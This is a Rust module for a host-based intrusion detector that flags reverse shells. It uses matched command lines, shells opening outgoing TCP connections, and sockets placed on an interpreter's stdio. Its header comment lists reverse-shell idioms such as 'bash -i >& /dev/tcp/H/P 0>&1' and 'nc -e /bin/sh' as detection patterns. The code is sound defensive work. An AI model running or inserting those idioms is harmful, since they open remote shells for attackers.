//! Reverse shells: a shell or interpreter whose input and output are a network connection to the
//! attacker. ATT&CK T1059.004 (Unix Shell) for the shell, T1071 (Application Layer Protocol) for
//! the command channel.
//!
//! Three views, each enough on its own:
//! 1. **Command line** ([`cmdline`]): `bash -i >& /dev/tcp/H/P 0>&1`, `nc -e /bin/sh`,
//!    `socat exec:`, python/perl/php/ruby socket one-liners, `mkfifo … | nc`. The finding waits
//!    (at most `connect_window_secs` of event time) for the connect of that process or of one of
//!    its children, so its evidence names the peer and the decision can block it; without a
//!    connect it is raised on the first event after the window.
//! 2. **A shell that connects**: a shell process (by its exe or comm) with an established
//!    outgoing TCP connection. Shells do not open connections except through `/dev/tcp`.
//! 3. **Socket on stdio**: `dup2` of a socket onto fd 0, 1 or 2 in a shell or interpreter
//!    (`fd_dup` with `socket: true`).

mod cmdline;

use std::collections::HashMap;

use chrono::{DateTime, TimeDelta, Utc};

use super::shell::{is_interpreter, is_shell};
use super::{Detector, evidence};
use crate::config::ReverseShellConfig;
use crate::event::{Event, EventKind};
use crate::finding::{Entity, Finding, Severity};
use crate::proctable::{ProcessTable, basename};
pub use cmdline::{Idiom, classify};

/// At most this many pending command lines, recent connects and reported pids are remembered.
const MAX_TRACKED: usize = 4096;

/// A command line that matched, waiting for its connect.
#[derive(Debug)]
struct Pending {
    idiom: Idiom,
    pid: u32,
    exe: String,
    start: DateTime<Utc>,
    exec: serde_json::Value,
}

pub struct ReverseShell {
    window: TimeDelta,
    pending: HashMap<u32, Pending>,
    /// The last outgoing connect per pid (for the `fd_dup` view's evidence).
    connects: HashMap<u32, serde_json::Value>,
    /// pid → start of the image already reported: one finding per process image.
    reported: HashMap<u32, DateTime<Utc>>,
}

impl ReverseShell {
    pub fn new(cfg: ReverseShellConfig) -> Self {
        Self {
            window: TimeDelta::seconds(i64::try_from(cfg.connect_window_secs).unwrap_or(60)),
            pending: HashMap::new(),
            connects: HashMap::new(),
            reported: HashMap::new(),
        }
    }

    fn finding(
        &mut self,
        ts: DateTime<Utc>,
        who: (u32, String, DateTime<Utc>),
        severity: Severity,
        summary: String,
        evidence: Vec<serde_json::Value>,
    ) -> Option<Finding> {
        let (pid, exe, start) = who;
        if self.reported.get(&pid) == Some(&start) {
            return None;
        }
        bounded_insert(&mut self.reported, pid, start);
        Some(Finding {
            ts,
            detector: "reverse_shell".into(),
            technique: "T1059.004".into(),
            severity,
            entity: Entity::Process {
                pid,
                start_ns: start.timestamp_nanos_opt().map_or(0, |n| n as u64),
                exe,
            },
            summary,
            evidence,
            author: None,
            stage: None,
        })
    }

    /// Raise pending command lines whose window ended without a connect.
    fn flush_expired(&mut self, now: DateTime<Utc>, out: &mut Vec<Finding>) {
        let expired: Vec<u32> = self
            .pending
            .iter()
            .filter(|(_, p)| now - p.start > self.window)
            .map(|(pid, _)| *pid)
            .collect();
        for pid in expired {
            if let Some(p) = self.pending.remove(&pid) {
                let summary = format!("{}: {} (no connect seen)", p.exe, p.idiom.describe());
                out.extend(self.finding(
                    now,
                    (p.pid, p.exe, p.start),
                    Severity::High,
                    summary,
                    vec![p.exec],
                ));
            }
        }
    }

    /// The pending command line this pid belongs to: its own, or its nearest ancestor's.
    fn pending_for(&self, pid: u32, procs: &ProcessTable) -> Option<u32> {
        if self.pending.contains_key(&pid) {
            return Some(pid);
        }
        procs
            .ancestors(pid)
            .map(|p| p.pid)
            .find(|p| self.pending.contains_key(p))
    }
}

/// A shell by what the process table (or the event's comm) says it runs.
fn runs_shell(pid: u32, comm: &str, procs: &ProcessTable) -> Option<(String, DateTime<Utc>)> {
    let info = procs.get(pid);
    let name = info.map_or(comm, |p| p.exe_name());
    let shell = is_shell(name) || is_shell(comm);
    shell.then(|| {
        info.map_or((comm.to_owned(), DateTime::<Utc>::MIN_UTC), |p| {
            (
                if p.exe.is_empty() {
                    p.comm.clone()
                } else {
                    p.exe.clone()
                },
                p.started.unwrap_or(DateTime::<Utc>::MIN_UTC),
            )
        })
    })
}

fn bounded_insert<V>(map: &mut HashMap<u32, V>, k: u32, v: V) {
    if map.len() >= MAX_TRACKED && !map.contains_key(&k) {
        map.clear();
    }
    map.insert(k, v);
}

impl Detector for ReverseShell {
    fn id(&self) -> &'static str {
        "reverse_shell"
    }

    fn on_event(&mut self, ev: &Event, procs: &ProcessTable, out: &mut Vec<Finding>) {
        self.flush_expired(ev.ts, out);
        match &ev.kind {
            EventKind::Exec(e) => {
                self.connects.remove(&e.pid);
                let Some(idiom) = classify(&e.filename, &e.argv) else {
                    self.pending.remove(&e.pid);
                    return;
                };
                let p = Pending {
                    idiom,
                    pid: e.pid,
                    exe: e.filename.clone(),
                    start: ev.ts,
                    exec: evidence(ev),
                };
                if self.pending.len() >= MAX_TRACKED {
                    self.pending.clear();
                }
                self.pending.insert(e.pid, p);
            }
            EventKind::TcpConnect(c) => {
                let Some(pid) = c.pid else { return };
                let conn = evidence(ev);
                bounded_insert(&mut self.connects, pid, conn.clone());
                if let Some(owner) = self.pending_for(pid, procs) {
                    if let Some(p) = self.pending.remove(&owner) {
                        let summary = format!(
                            "{}: {} to {}:{}",
                            p.exe,
                            p.idiom.describe(),
                            c.daddr,
                            c.dport
                        );
                        out.extend(self.finding(
                            ev.ts,
                            (p.pid, p.exe, p.start),
                            Severity::Critical,
                            summary,
                            vec![p.exec, conn],
                        ));
                    }
                    return;
                }
                if let Some((exe, start)) = runs_shell(pid, &c.comm, procs) {
                    let summary = format!(
                        "shell {} opened a TCP connection to {}:{}",
                        basename(&exe),
                        c.daddr,
                        c.dport
                    );
                    out.extend(self.finding(
                        ev.ts,
                        (pid, exe, start),
                        Severity::High,
                        summary,
                        vec![conn],
                    ));
                }
            }
            EventKind::FdDup(d) if d.socket == Some(true) && d.newfd <= 2 => {
                let info = procs.get(d.pid);
                let name = info.map_or(d.comm.as_str(), |p| p.exe_name());
                if !(is_interpreter(name) || is_interpreter(&d.comm)) {
                    return;
                }
                let exe = info.map_or_else(|| d.comm.clone(), |p| p.exe.clone());
                let start = info
                    .and_then(|p| p.started)
                    .unwrap_or(DateTime::<Utc>::MIN_UTC);
                let mut evid = vec![evidence(ev)];
                evid.extend(self.connects.get(&d.pid).cloned());
                let summary = format!(
                    "{} put a socket on fd {} (stdio of an interpreter)",
                    basename(&exe),
                    d.newfd
                );
                self.pending.remove(&d.pid);
                out.extend(self.finding(
                    ev.ts,
                    (d.pid, exe, start),
                    Severity::Critical,
                    summary,
                    evid,
                ));
            }
            EventKind::Exit(x) => {
                self.connects.remove(&x.pid);
                self.reported.remove(&x.pid);
            }
            _ => {}
        }
    }
}
